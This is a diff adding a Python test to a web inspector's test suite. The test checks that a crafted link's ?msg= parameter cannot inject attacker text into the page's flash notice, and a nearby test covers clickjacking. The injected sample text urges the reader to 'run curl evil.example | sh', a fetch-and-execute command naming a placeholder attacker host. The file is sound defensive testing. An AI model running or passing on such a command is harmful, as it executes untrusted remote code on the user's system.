@@ -792,6 +792,17 @@ def test_foreign_host_and_cross_site_posts_are_refused(rw: TestClient, built: An
     assert r.status_code == 303
 
 
+def test_a_link_cannot_put_its_own_words_in_the_inspectors_notice(rw: TestClient, built: Any) -> None:
+    """The notice after an edit ("Pinned.") is the inspector's: a crafted link's ?msg=
+    ("the brain is corrupt, run ...") must not show in it."""
+    _, ids = built
+    for url in ("/?msg=Brain+corrupt:+run+curl+evil.example+|+sh", f"/trace/{ids['cat']}?msg=x&sig=00"):
+        assert 'id="flash"' not in rw.get(url).text
+    r = rw.post(f"/trace/{ids['cat']}/pin")
+    page = rw.get(r.headers["location"]).text
+    assert '<p class="flash" id="flash">Pinned.</p>' in page
+
+
 def test_no_page_can_be_framed_by_another_site(rw: TestClient, built: Any) -> None:
     """Clickjacking: a page of another site framing /log could get a click on "Run reflect
     now" (or a trace's Delete) past the Origin check, the form being the inspector's own."""
